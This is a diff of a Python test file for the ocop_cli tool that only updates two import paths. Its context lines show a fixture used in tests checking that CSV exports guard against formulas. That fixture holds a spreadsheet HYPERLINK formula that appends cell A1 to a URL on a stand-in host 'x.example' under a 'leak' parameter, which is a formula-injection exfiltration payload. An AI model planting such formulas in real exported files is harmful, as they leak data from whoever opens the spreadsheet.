@@ -14,7 +14,7 @@ from typing import Any
 
 import pytest
 
-from ocop_cli.errors import EXIT_OK
+from ocop_cli.core.errors import EXIT_OK
 
 TITLES = {
     "1.1": '=HYPERLINK("http://x.example/?leak="&A1,"bấm")',
@@ -65,7 +65,7 @@ def test_csv_of_tasks_report_and_plan_export_guards_formulas(formulas: Path, oco
 
 def test_the_exported_csv_imports_back_as_written(formulas: Path, ocop: Any, tmp_path: Path
                                                   ) -> None:
-    from ocop_cli.sheets import read_sheet
+    from ocop_cli.imports.sheets import read_sheet
 
     path = tmp_path / "plan.csv"
     assert ocop("export", "plan", "--output", str(path)).exit_code == EXIT_OK
